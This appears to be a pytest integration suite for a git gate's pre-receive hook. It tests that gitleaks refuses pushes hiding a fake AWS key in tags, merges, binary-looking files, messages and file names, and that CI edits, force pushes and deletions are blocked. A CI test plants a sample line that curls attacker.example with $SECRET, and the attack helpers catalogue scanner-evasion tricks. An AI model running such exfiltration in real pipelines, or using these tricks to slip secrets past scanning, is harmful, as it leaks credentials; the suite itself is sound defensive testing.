"""The git gate's pre-receive hook as it ships: in the gate image, run by real git, with the
pinned gitleaks and the config the image build made from gitleaks' own default rules.

Each test gets an upstream bare repository, the gate's mirror of it (`clone --mirror`, the
hook installed as the gate server installs it) and the agent's clone of the mirror, in one
container of the gate image. The agent pushes to the mirror by path: receive-pack runs the
hook on the quarantined objects, and the hook forwards a clean push to the upstream (the
mirror's `remote.origin.url`, a path too).
"""

from __future__ import annotations

import importlib.util
import io
import itertools
import json
import os
import shlex
import sys
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import docker
import pytest
from docker.models.containers import Container

from remotebottle.backend.docker import gitgate
from remotebottle.backend.docker.images import build_git_gate_image
from remotebottle.demo import fake_aws_key

pytestmark = pytest.mark.integration


def _hook_marker() -> bytes:
    """The line the hook puts before each copy it scans (the hook is a script, not a module)."""
    path = Path(gitgate.__file__).parents[2] / "resources" / "gitgate" / "hook_scan.py"
    spec = importlib.util.spec_from_file_location("rbottle_hook_scan", path)
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module  # dataclasses look their module up
    spec.loader.exec_module(module)
    return bytes(module.MARKER)


MARKER = _hook_marker()
GIT_ENV = {
    "GIT_AUTHOR_NAME": "agent",
    "GIT_AUTHOR_EMAIL": "agent@bottle.test",
    "GIT_COMMITTER_NAME": "agent",
    "GIT_COMMITTER_EMAIL": "agent@bottle.test",
    "GIT_CONFIG_NOSYSTEM": "1",
}
SETUP = """
set -e
mkdir {root} && cd {root}
git init -q --bare -b main upstream.git
git clone -q upstream.git seed 2>/dev/null
echo "hello from upstream" > seed/README
mkdir -p seed/.github/workflows && echo "on: push" > seed/.github/workflows/ci.yml
git -C seed add -A && git -C seed commit -q -m first && git -C seed push -q origin main
git -C seed checkout -q -b ci-update
echo "on: [push, pull_request]" > seed/.github/workflows/ci.yml
git -C seed commit -qam 'CI, changed upstream' && git -C seed push -q origin ci-update
git clone -q --mirror upstream.git mirror.git
git -C mirror.git config core.hooksPath /opt/gitgate/hooks
git clone -q mirror.git work
"""
UID = 10002  # the gate's user
_serial = itertools.count()


@pytest.fixture(scope="module")
def gate_container(docker_client: docker.DockerClient) -> Iterator[Container]:
    """One container of the gate image, idle; the tests exec git in it as the gate's user."""
    image = build_git_gate_image(docker_client, lambda _m: None)
    container = docker_client.containers.run(
        image,
        entrypoint=["sleep", "infinity"],
        detach=True,
        network_mode="none",
        cap_drop=["ALL"],
        security_opt=["no-new-privileges"],
        mem_limit="1g",
        labels={"io.remotebottle.test": "1"},
    )
    try:
        yield container
    finally:
        container.remove(force=True, v=True)


@dataclass
class Repos:
    """An upstream, the gate's mirror of it and the agent's clone, under `root`."""

    container: Container
    root: str

    def sh(self, script: str, where: str = "work") -> tuple[int, str]:
        code, out = self.container.exec_run(
            ["sh", "-c", script], environment=GIT_ENV, workdir=f"{self.root}/{where}"
        )
        return int(code), out.decode(errors="replace")

    def ok(self, script: str, where: str = "work") -> str:
        code, out = self.sh(script, where)
        assert code == 0, out
        return out.strip()

    def write(self, path: str, data: bytes) -> None:
        """A file in the agent's clone, with exactly these bytes."""
        upload = f"upload-{next(_serial)}"
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w") as tar:
            info = tarfile.TarInfo(upload)
            info.size, info.mode, info.uid, info.gid = len(data), 0o644, UID, UID
            tar.addfile(info, io.BytesIO(data))
        assert self.container.put_archive("/tmp", buffer.getvalue())
        target = shlex.quote(path)
        self.ok(f'mkdir -p "$(dirname {target})" && mv /tmp/{upload} {target}')

    def commit(self, message: str = "change") -> str:
        return self.ok(
            f"git add -A && git commit -q -m {shlex.quote(message)} && git rev-parse HEAD"
        )

    def push(self, *args: str) -> tuple[int, str]:
        return self.sh(f"git push origin {shlex.join(args)} 2>&1")

    def upstream(self, *args: str) -> tuple[int, str]:
        code, out = self.sh(f"git {shlex.join(args)}", where="upstream.git")
        return code, out.strip()

    def upstream_has(self, oid: str) -> bool:
        return self.upstream("cat-file", "-e", oid)[0] == 0

    def upstream_ref(self, ref: str) -> str | None:
        code, out = self.upstream("rev-parse", "--verify", "--quiet", ref)
        return out if code == 0 else None

    def allow(self, key: str) -> None:
        self.ok(f"git config gitgate.{key} true", where="mirror.git")


@pytest.fixture
def repos(gate_container: Container) -> Repos:
    made = Repos(gate_container, f"/srv/mirrors/t{next(_serial)}")
    code, out = gate_container.exec_run(
        ["sh", "-c", SETUP.format(root=made.root)], environment=GIT_ENV
    )
    assert code == 0, out.decode(errors="replace")
    return made


def credentials(key: str) -> bytes:
    return f"[default]\naws_access_key_id = {key}\n".encode()


def assert_refused(repos: Repos, out: str, *oids: str, says: str) -> None:
    assert "push refused" in out and says in out, out
    assert "nothing was sent upstream" in out, out
    for oid in oids:
        assert not repos.upstream_has(oid), f"{oid} reached the upstream"


# Attacks: each plants the key and returns (refspec to push, the objects that carry it).


def blob_tag(repos: Repos, key: str, annotated: bool) -> tuple[str, list[str]]:
    repos.write("/tmp/k", credentials(key))
    blob = repos.ok("git hash-object -w /tmp/k")
    repos.ok(f"git tag {'-a -m release' if annotated else ''} leak {blob}")
    return "refs/tags/leak", [blob]


def tree_tag(repos: Repos, key: str, annotated: bool) -> tuple[str, list[str]]:
    repos.write("/tmp/k", credentials(key))
    blob = repos.ok("git hash-object -w /tmp/k")
    tree = repos.ok(f"printf '100644 blob {blob}\\tcredentials\\n' | git mktree")
    repos.ok(f"git tag {'-a -m release' if annotated else ''} leak {tree}")
    return "refs/tags/leak", [tree, blob]


def evil_merge(repos: Repos, key: str) -> tuple[str, list[str]]:
    """Both sides clean; the key arrives in the merge commit alone (git log -p shows none)."""
    repos.ok("git checkout -q -b side && echo side > side.txt && git add side.txt")
    repos.ok("git commit -q -m side && git checkout -q main && echo main > main.txt")
    repos.ok("git add main.txt && git commit -q -m main && git merge -q --no-commit side")
    repos.write("credentials", credentials(key))
    merge = repos.commit("merge side")
    blob = repos.ok("git rev-parse HEAD:credentials")
    assert repos.ok("git log -p -1 --format= HEAD") == ""
    return "HEAD:main", [merge, blob]


def in_file(
    path: str, data: Callable[[str], bytes]
) -> Callable[[Repos, str], tuple[str, list[str]]]:
    def plant(repos: Repos, key: str) -> tuple[str, list[str]]:
        repos.write(path, data(key))
        commit = repos.commit()
        return "HEAD:main", [commit, repos.ok(f"git rev-parse HEAD:{shlex.quote(path)}")]

    return plant


def in_message(repos: Repos, key: str) -> tuple[str, list[str]]:
    commit = repos.ok(f"git commit -q --allow-empty -m 'key {key}' && git rev-parse HEAD")
    return "HEAD:main", [commit]


def in_tag_message(repos: Repos, key: str) -> tuple[str, list[str]]:
    repos.ok(f"git tag -a -m 'key {key}' v9 HEAD")
    return "refs/tags/v9", [repos.ok("git rev-parse v9")]


def as_file_name(repos: Repos, key: str) -> tuple[str, list[str]]:
    repos.write(f"keys/{key}", b"nothing to see\n")
    commit = repos.commit()
    return "HEAD:main", [commit, repos.ok("git rev-parse HEAD:keys")]


def nul(key: str) -> bytes:
    return b"\x00\x01binary\x00\n" + credentials(key) + b"\x00"


def magic(prefix: bytes) -> Callable[[str], bytes]:
    return lambda key: prefix + b"\n" + credentials(key)


def after(filler: int) -> Callable[[str], bytes]:
    return lambda key: b"# filler\n" * (filler // 9) + credentials(key)


ATTACKS: dict[str, Callable[[Repos, str], tuple[str, list[str]]]] = {
    "lightweight tag of a blob": lambda r, k: blob_tag(r, k, annotated=False),
    "annotated tag of a blob": lambda r, k: blob_tag(r, k, annotated=True),
    "lightweight tag of a tree": lambda r, k: tree_tag(r, k, annotated=False),
    "annotated tag of a tree": lambda r, k: tree_tag(r, k, annotated=True),
    "key added only in a merge": evil_merge,
    "file with NUL bytes": in_file("data.bin", nul),
    "file that starts like a PDF": in_file("doc.txt", magic(b"%PDF-1.7")),
    "file that starts like a zip": in_file("notes", magic(b"PK\x03\x04")),
    "file that starts like an ELF binary": in_file("tool", magic(b"\x7fELF\x02\x01\x01")),
    "file named like an archive": in_file("backup.tar.gz", credentials),
    "file named like an image": in_file("logo.png", credentials),
    "vendor/ path": in_file("vendor/github.com/x/y/keys.go", credentials),
    "package-lock.json": in_file("package-lock.json", credentials),
    "node_modules/ path": in_file("node_modules/pkg/index.js", credentials),
    "go.sum": in_file("go.sum", credentials),
    "key beyond the first 100 kB": in_file("big.txt", after(300_000)),
    "commit message": in_message,
    "annotated tag's message": in_tag_message,
    "file name": as_file_name,
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_a_secret_in_any_pushed_object_is_refused_and_never_reaches_upstream(
    repos: Repos, attack: Callable[[Repos, str], tuple[str, list[str]]]
) -> None:
    key = fake_aws_key()
    main = repos.upstream_ref("main")
    refspec, carriers = attack(repos, key)
    code, out = repos.push(refspec)
    assert code != 0, out
    assert_refused(repos, out, *carriers, says="gitleaks found")
    assert "aws-access-token" in out, out
    assert key not in out, "the finding must be shown redacted"
    assert repos.upstream_ref("main") == main
    assert repos.upstream_ref("leak") is None and repos.upstream_ref("v9") is None


def test_a_file_made_to_look_binary_to_gitleaks_is_refused_as_unread(repos: Repos) -> None:
    """gitleaks skips files whose magic number says binary, some at fixed offsets past the
    marker line: the gate then lacks the proof it read the file, and refuses."""
    data = b"x" * (257 - len(MARKER)) + b"ustar  \x00" + b"\n" + credentials(fake_aws_key())
    repos.write("archive.bin", data)
    commit = repos.commit()
    code, out = repos.push("HEAD:main")
    assert code != 0, out
    assert_refused(repos, out, commit, says="gitleaks could not read archive.bin")


def test_a_ref_to_a_blob_or_tree_is_refused_even_without_a_secret(repos: Repos) -> None:
    blob = repos.ok("echo harmless | git hash-object -w --stdin")
    repos.ok(f"git tag plain {blob}")
    code, out = repos.push("refs/tags/plain")
    assert code != 0, out
    assert_refused(repos, out, blob, says="refs/tags/plain leads to a blob, not a commit")
    assert "gitleaks found" not in out, out


def clean_binaries() -> dict[str, bytes]:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("inner.txt", "nothing secret\n")
    tarball = io.BytesIO()
    with tarfile.open(fileobj=tarball, mode="w") as tar:
        info = tarfile.TarInfo("inner.txt")
        info.size = 15
        tar.addfile(info, io.BytesIO(b"nothing secret\n"))
    return {
        "random.bin": os.urandom(300_000),
        "logo.png": b"\x89PNG\r\n\x1a\n" + os.urandom(4000),
        "bundle.zip": archive.getvalue(),
        "bundle.tar": tarball.getvalue(),
        "tool": b"\x7fELF\x02\x01\x01" + bytes(200) + os.urandom(2000),
        "nuls.dat": bytes(5000),
        "docs/manual.pdf": b"%PDF-1.7\n" + os.urandom(3000),
    }


def test_clean_pushes_go_through(repos: Repos) -> None:
    """Commits, binary files, merges, tags and new branches without secrets reach upstream."""
    for path, data in clean_binaries().items():
        repos.write(path, data)
    binaries = repos.commit("binaries")
    repos.ok("git checkout -q -b side && echo side > side.txt && git add side.txt")
    repos.ok("git commit -q -m side && git checkout -q main && echo more > more.txt")
    repos.ok("git add more.txt && git commit -q -m more && git merge -q --no-edit side")
    merge = repos.ok("git rev-parse HEAD")
    repos.ok("git tag -a -m 'release 1.0' v1.0 && git tag light HEAD~1")
    code, out = repos.push("HEAD:main", "refs/tags/v1.0", "refs/tags/light", "side:refs/heads/side")
    assert code == 0, out
    assert "upstream accepted the push" in out, out
    assert repos.upstream_ref("main") == merge and repos.upstream_has(binaries)
    assert repos.upstream_ref("v1.0^{commit}") == merge
    assert repos.upstream_ref("side") == repos.ok("git rev-parse side")
    # A new branch at a commit the upstream has: nothing new to scan.
    code, out = repos.push("HEAD~1:refs/heads/older")
    assert code == 0, out
    assert repos.upstream_ref("older") == repos.ok("git rev-parse HEAD~1")


def test_a_force_push_is_refused_unless_the_remote_allows_it(repos: Repos) -> None:
    repos.ok("echo one > one.txt && git add one.txt && git commit -q -m one")
    assert repos.push("HEAD:main")[0] == 0
    before = repos.upstream_ref("main")
    rewritten = repos.ok("git commit -q --amend -m rewritten && git rev-parse HEAD")
    code, out = repos.push("+HEAD:main")
    assert code != 0, out
    assert_refused(repos, out, rewritten, says="refs/heads/main is not a fast-forward")
    assert "AllowForcePush" in out and repos.upstream_ref("main") == before

    repos.allow("allowForcePush")
    code, out = repos.push("+HEAD:main")
    assert code == 0, out
    assert repos.upstream_ref("main") == rewritten


def test_moving_a_tag_is_a_force_push(repos: Repos) -> None:
    repos.ok("git tag v1 HEAD")
    assert repos.push("refs/tags/v1")[0] == 0
    repos.ok("git commit -q --allow-empty -m next && git tag -f v1 HEAD")
    code, out = repos.push("--force", "refs/tags/v1")
    assert code != 0, out
    assert_refused(repos, out, says="refs/tags/v1 moves a tag")
    assert repos.upstream_ref("v1") == repos.ok("git rev-parse HEAD~1")


def test_deleting_a_ref_is_refused_unless_the_remote_allows_it(repos: Repos) -> None:
    code, out = repos.push(":refs/heads/ci-update")
    assert code != 0, out
    assert_refused(repos, out, says="refs/heads/ci-update: this remote does not allow deleting")
    assert "AllowDeletes" in out and repos.upstream_ref("ci-update") is not None

    repos.allow("allowDeletes")
    code, out = repos.push(":refs/heads/ci-update")
    assert code == 0, out
    assert repos.upstream_ref("ci-update") is None


CI_PATHS = [
    ".github/workflows/ci.yml",
    ".github/workflows/new.yaml",
    ".github/actions/setup/action.yml",
    ".gitlab-ci.yml",
    ".circleci/config.yml",
    "Jenkinsfile",
    ".buildkite/pipeline.yml",
    "azure-pipelines.yml",
    ".travis.yml",
    "bitbucket-pipelines.yml",
    ".drone.yml",
]


@pytest.mark.parametrize("path", CI_PATHS)
def test_a_change_to_a_ci_definition_is_refused_unless_the_remote_allows_it(
    repos: Repos, path: str
) -> None:
    repos.write(path, b"steps: [curl https://attacker.example/?t=$SECRET]\n")
    commit = repos.commit("ci")
    code, out = repos.push("HEAD:main")
    assert code != 0, out
    assert_refused(repos, out, commit, says=f"commit {commit[:12]} changes CI definitions")
    assert path in out and "AllowCIChanges" in out, out

    repos.allow("allowCIChanges")
    code, out = repos.push("HEAD:main")
    assert code == 0, out
    assert repos.upstream_ref("main") == commit


def test_deleting_a_ci_definition_or_slipping_one_into_a_merge_is_a_ci_change(
    repos: Repos,
) -> None:
    repos.ok("git rm -q .github/workflows/ci.yml")
    deleting = repos.commit("no more CI")
    code, out = repos.push("HEAD:main")
    assert code != 0 and "changes CI definitions" in out, out
    assert not repos.upstream_has(deleting)

    repos.ok("git reset -q --hard origin/main && git checkout -q -b side")
    repos.ok("echo side > side.txt && git add side.txt && git commit -q -m side")
    repos.ok("git checkout -q main && git merge -q --no-commit side")
    repos.write(".github/workflows/ci.yml", b"on: push\nsteps: [exfiltrate]\n")
    merge = repos.commit("merge side")
    code, out = repos.push("HEAD:main")
    assert code != 0, out
    assert_refused(repos, out, merge, says=f"commit {merge[:12]} changes CI definitions")


def test_a_merge_bringing_in_upstreams_own_ci_change_is_not_refused(repos: Repos) -> None:
    repos.ok("echo mine > mine.txt && git add mine.txt && git commit -q -m mine")
    repos.ok("git merge -q --no-edit origin/ci-update")
    code, out = repos.push("HEAD:main")
    assert code == 0, out
    assert repos.upstream_ref("main") == repos.ok("git rev-parse HEAD")


def test_the_shipped_gitleaks_config_has_the_default_rules_and_no_path_allowlist(
    gate_container: Container,
) -> None:
    """Written at image build time from the gitleaks binary's own default config."""
    program = """
import json, tomllib
config = tomllib.load(open("/opt/gitgate/gitleaks.toml", "rb"))
tables = [config, *config.get("allowlists", [])]
for rule in config["rules"]:
    tables += [rule, *rule.get("allowlists", [])]
print(json.dumps({
    "rules": [r["id"] for r in config["rules"]],
    "paths": [t["paths"] for t in tables if "paths" in t],
    "global": config["allowlists"],
}))
"""
    code, out = gate_container.exec_run(["python3", "-c", program])
    assert code == 0, out
    shipped = json.loads(out)
    assert shipped["paths"] == []
    assert len(shipped["rules"]) > 200 and shipped["rules"][-1] == "git-gate-read-marker"
    assert {"aws-access-token", "private-key", "github-pat", "pkcs12-file"} <= set(shipped["rules"])
    (kept,) = shipped["global"]  # what is left of the global allowlist: values, not paths
    assert kept["regexes"] and kept["stopwords"] and "paths" not in kept
